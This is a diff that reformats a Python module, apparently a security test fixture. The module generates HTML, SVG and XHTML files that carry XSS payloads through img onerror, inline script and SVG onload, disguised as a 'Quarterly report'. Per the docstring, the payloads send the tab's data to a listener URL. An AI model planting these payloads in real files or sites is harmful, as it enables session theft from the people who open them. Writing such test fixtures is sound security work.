@@ -6,6 +6,7 @@ Every payload sets ``window.pwned`` and, given a listener URL, sends the tab's s
 only turns into HTML when sniffed, and a PNG/HTML polyglot (a valid image with a page behind it).
 ``api_server(listener)`` serves ``api_bodies`` on 127.0.0.1 for ``api`` data sources to fetch.
 """
+
 import io
 
 from PIL import Image
@@ -21,21 +22,27 @@ def script(listener):
 
 def html(listener):
     js = script(listener)
-    return (f'<!doctype html><html><head><title>report</title></head><body><h1>Quarterly report</h1>'
-            f'<img src="x" onerror="{js}"><script>{js}</script></body></html>').encode()
+    return (
+        f"<!doctype html><html><head><title>report</title></head><body><h1>Quarterly report</h1>"
+        f'<img src="x" onerror="{js}"><script>{js}</script></body></html>'
+    ).encode()
 
 
 def svg(listener):
     js = script(listener)
-    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
-            f'height="10" onload="{js}"><script type="text/javascript">{js}</script>'
-            f'<rect width="10" height="10"/></svg>').encode()
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
+        f'height="10" onload="{js}"><script type="text/javascript">{js}</script>'
+        f'<rect width="10" height="10"/></svg>'
+    ).encode()
 
 
 def xhtml(listener):
     js = script(listener)
-    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><head>'
-            f'<title>x</title></head><body><script>{js}</script></body></html>').encode()
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><head>'
+        f"<title>x</title></head><body><script>{js}</script></body></html>"
+    ).encode()
 
 
 def polyglot(listener):
